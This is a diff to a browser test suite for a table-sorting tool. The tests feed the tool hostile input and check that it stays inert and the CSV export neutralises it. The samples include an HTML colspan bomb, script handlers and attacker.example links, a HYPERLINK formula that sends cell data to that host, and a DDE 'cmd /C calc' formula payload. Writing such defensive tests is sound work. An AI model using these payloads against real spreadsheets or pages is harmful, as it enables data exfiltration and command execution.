@@ -45,13 +45,11 @@ async function build(page: Page, ...kinds: Built[]) {
 
 /** Crash watch, page watch and the main-thread probe. */
 async function open(page: Page, ...kinds: Built[]) {
-  const crashes: string[] = []
-  page.on('crash', () => crashes.push('renderer crashed'))
   const watch = await watchPage(page)
   await gotoTool(page, 'table-sorter')
   if (kinds.length) await build(page, ...kinds)
   const probe = await startMainThreadProbe(page)
-  return { crashes, watch, probe }
+  return { watch, probe }
 }
 
 async function expectOrdinaryTableWorks(page: Page) {
@@ -67,7 +65,7 @@ async function expectOrdinaryTableWorks(page: Page) {
 }
 
 test('a 25 KB HTML colspan bomb (1,000 × 100,000) is refused naming the limit', async ({ page }) => {
-  const { crashes, watch, probe } = await open(page)
+  const { watch, probe } = await open(page)
   const html = `<table><tr>${'<td colspan=100>a</td>'.repeat(1000)}</tr>${'<tr><td>x</td></tr>'.repeat(999)}</table>`
   await box(page).fill(html)
   await expect(page.getByTestId('table-failure')).toHaveText(
@@ -75,23 +73,23 @@ test('a 25 KB HTML colspan bomb (1,000 × 100,000) is refused naming the limit',
   )
   expect(await probe.stop()).toBeLessThan(1000)
   await expectOrdinaryTableWorks(page)
-  expect(crashes).toEqual([])
+  expect(watch.crashes).toEqual([])
   expect(watch.pageErrors).toEqual([])
 })
 
 test('one CSV line of 100,000 fields then 1,000 rows is refused naming the limit', async ({ page }) => {
-  const { crashes, watch, probe } = await open(page, 'wide-line')
+  const { watch, probe } = await open(page, 'wide-line')
   await pasteBuilt(page, 'wide-line')
   await expect(page.getByTestId('table-failure')).toHaveText('100,000 columns: Table Sorter reads up to 16,384.')
   expect(await probe.stop()).toBeLessThan(1000)
   await expectOrdinaryTableWorks(page)
-  expect(crashes).toEqual([])
+  expect(watch.crashes).toEqual([])
   expect(watch.pageErrors).toEqual([])
 })
 
 test('a 20 MB CSV is read, sorted and exported off the main thread; 16,000 columns scroll', async ({ page }) => {
   test.setTimeout(90_000)
-  const { crashes, watch, probe } = await open(page, 'big-csv', 'columns-16k')
+  const { watch, probe } = await open(page, 'big-csv', 'columns-16k')
   // 400,000 rows of about 50 bytes.
   await pasteBuilt(page, 'big-csv')
   await expect(page.getByTestId('table-summary')).toHaveText('Read as CSV (delimiter “,”): 400,000 rows × 4 columns.', {
@@ -135,14 +133,14 @@ test('a 20 MB CSV is read, sorted and exported off the main thread; 16,000 colum
   })
   await expect(page.getByTestId('sorted-table').getByRole('columnheader', { name: /^h15999/ })).toBeVisible()
   await expectOrdinaryTableWorks(page)
-  expect(crashes).toEqual([])
+  expect(watch.crashes).toEqual([])
   expect(watch.pageErrors).toEqual([])
 })
 
 test('hostile HTML stays inert (no handler, no <base>, nothing loads) and the CSV export defuses formulas', async ({
   page,
 }) => {
-  const { crashes, watch } = await open(page)
+  const { watch } = await open(page)
   const baseBefore = await page.evaluate(() => document.baseURI)
   const html = `<base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/x.css">
 <table><tr><th onclick="window.__pwned='th'">=HYPERLINK("https://attacker.example/?"&amp;A2,"Click")</th><th>n</th></tr>
@@ -169,6 +167,6 @@ test('hostile HTML stays inert (no handler, no <base>, nothing loads) and the CS
   const live = await captureDownload(page, () => page.getByRole('button', { name: 'Download .csv' }).click())
   expect(parseCsv(live.text(), ',').rows[1]).toEqual(["@SUM(1)*cmd|' /C calc'!A0", '+1'])
   await expectOrdinaryTableWorks(page)
-  expect(crashes).toEqual([])
+  expect(watch.crashes).toEqual([])
   expect(watch.pageErrors).toEqual([])
 })
